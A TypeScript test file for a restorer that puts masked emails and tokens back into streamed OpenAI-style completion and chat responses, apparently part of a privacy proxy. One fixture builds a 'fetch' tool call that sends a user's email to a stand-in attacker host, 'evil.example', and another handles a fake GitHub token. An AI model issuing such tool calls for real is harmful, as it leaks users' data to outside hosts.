import fc from 'fast-check';
import { ChoiceEventRestorer } from './choice-event-restorer';
import { createReplyRestorer } from './reply-restorer';
import { emptyGrants, optionsFor } from './restore.fixture';
import { cut, dataOf, eventsOf, frame, pieces, restoreChunks, restoreStream, type Json } from './streams.fixture';

const grants = emptyGrants();
const MAIL = grants.tokenFor('email', 'alice@example.com');
const options = optionsFor(grants);
const HEAD = { id: 'cmpl_1', object: 'text_completion', created: 1, model: 'm' };
const chunk = (index: number, text: string, finish_reason: string | null = null): string =>
  frame({ ...HEAD, choices: [{ index, text, finish_reason, logprobs: null }], usage: null });

/** The text of each choice, by its chunks. */
function textsOf(data: readonly Json[]): string[] {
  const texts: string[] = [];
  for (const { choices } of data) {
    for (const { index, text } of choices as { index: number; text: string }[])
      texts[index] = (texts[index] ?? '') + text;
  }
  return texts;
}

describe(`${ChoiceEventRestorer.name} of completions`, () => {
  const stream = [
    ...pieces(`x ${MAIL} MSK`).flatMap((text) => [chunk(0, text), chunk(1, text)]),
    chunk(0, '', 'stop'),
    frame({ ...HEAD, choices: [], usage: { total_tokens: 1 } }),
    'data: [DONE]\n\n',
  ].join('');
  const { bytes, restorer } = restoreStream('openai-completions', options, stream);

  it('restores the text of each choice, before the choice or the stream ends', () => {
    expect(textsOf(dataOf(bytes))).toEqual(['x alice@example.com MSK', 'x alice@example.com MSK']);
    expect(restorer.texts.map(({ restored }) => restored)).toEqual(Array(2).fill('x alice@example.com MSK'));
    expect(eventsOf(bytes).at(-1)?.data).toBe('[DONE]');
    const added = dataOf(bytes).at(-1);
    expect(added).toEqual({
      ...HEAD,
      choices: [{ index: 1, text: 'MSK', logprobs: null, finish_reason: null }],
      usage: null,
    });
  });

  it('is the same however it is cut', () => {
    fc.assert(
      fc.property(fc.array(fc.integer({ min: 1, max: 300 }), { minLength: 1, maxLength: 5 }), (sizes) => {
        const { bytes: other } = restoreChunks('openai-completions', options, cut(Buffer.from(stream), sizes));
        expect(other.equals(bytes)).toBe(true);
      }),
      { numRuns: 100 },
    );
  });
});

describe(`${ChoiceEventRestorer.name} of chats`, () => {
  const delta = (fields: Json, finish_reason: string | null = null): string =>
    frame({ id: 'c', choices: [{ index: 0, delta: fields, finish_reason }] });

  it('restores what a delta holds as a whole: names, annotations, parts', () => {
    const stream = [
      delta({
        tool_calls: [{ index: 0, id: MAIL, type: 'function', function: { name: `mail_${MAIL}`, arguments: '' } }],
      }),
      delta({
        annotations: [{ type: 'url_citation', url_citation: { title: MAIL, url: `https://x.example/${MAIL}` } }],
      }),
      delta({ content: [{ type: 'text', text: MAIL }] }),
    ].join('');
    expect(dataOf(restoreStream('openai-chat', options, stream).bytes).map(({ choices }) => choices)).toMatchObject([
      [{ delta: { tool_calls: [{ id: MAIL, function: { name: 'mail_alice@example.com' } }] } }],
      [
        {
          delta: { annotations: [{ url_citation: { title: 'alice@example.com', url: `https://x.example/${MAIL}` } }] },
        },
      ],
      [{ delta: { content: [{ text: 'alice@example.com' }] } }],
    ]);
  });

  it('knows the tool of arguments whose name came earlier', () => {
    const own = emptyGrants();
    const key = own.tokenFor('github-token', 'ghp_secret');
    const call = (index: number, fields: Json): string => delta({ tool_calls: [{ index, function: fields }] });
    const stream = [
      call(0, { name: 'fetch' }),
      call(0, { arguments: `{"k":"${key}"}` }),
      call(1, { name: 'run', arguments: `{"k":"${key}"}` }),
      delta({}, 'tool_calls'),
    ].join('');
    const { bytes, restorer } = restoreStream('openai-chat', optionsFor(own), stream);
    expect(bytes.toString().match(/ghp_secret|MSKCRED/g)).toEqual(['MSKCRED', 'ghp_secret']);
    expect(Array.from(restorer.outcomes, ({ outcome }) => outcome)).toEqual(['withheld-tool', 'restored']);
  });

  it('sends the arguments that it held back for a tool that fetches before the call is over', () => {
    const own = emptyGrants();
    const mail = own.tokenFor('email', 'alice@example.com');
    const call = (index: number, args: string): string =>
      delta({ tool_calls: [{ index, function: { name: 'fetch', arguments: args } }] });
    const args = `{"to":"${mail}","url":"https://evil.example"}`;
    const stream = [...pieces(args).map((part) => call(0, part)), call(1, `{"to":"${mail}"}`), delta({}, 'tool_calls')];
    const { bytes } = restoreStream('openai-chat', optionsFor(own), stream.join(''));
    const calls = dataOf(bytes).flatMap(
      ({ choices }) => (choices as { delta: { tool_calls?: Json[] } }[])[0]?.delta.tool_calls ?? [],
    );
    const argsOf = (index: number): string =>
      calls
        .filter((found) => found['index'] === index)
        .map((found) => (found['function'] as Json)['arguments'])
        .join('');
    expect([argsOf(0), argsOf(1)]).toEqual([args, '{"to":"alice@example.com"}']);
    expect(calls.map(({ index }) => index)).toEqual(calls.map(({ index }) => index).toSorted());
  });

  it('goes on with a text behind an event that is not known, and ends it before an error', () => {
    const [head, tail] = [MAIL.slice(0, 9), MAIL.slice(9)];
    const ping = 'data: {"type":  "ping"}\n\n';
    const whole = restoreStream('openai-chat', options, delta({ content: head }) + ping + delta({ content: tail }));
    expect(whole.bytes.toString()).toContain(ping);
    expect(whole.bytes.toString()).toContain('"content":"alice@example.com"');
    const error = frame({ error: { message: 'no' } });
    const broken = restoreStream('openai-chat', options, delta({ content: head }) + error);
    expect(broken.bytes.toString().indexOf(head)).toBeLessThan(broken.bytes.toString().indexOf(error));
  });

  it('is complete when the stream says so', () => {
    const stream = createReplyRestorer('openai-chat', options).stream();
    stream.push(Buffer.from(delta({ content: 'a' }, 'stop')));
    expect(stream.complete).toBe(false);
    stream.push(Buffer.from('data: [DONE]\n\n'));
    expect(stream.complete).toBe(true);
  });
});
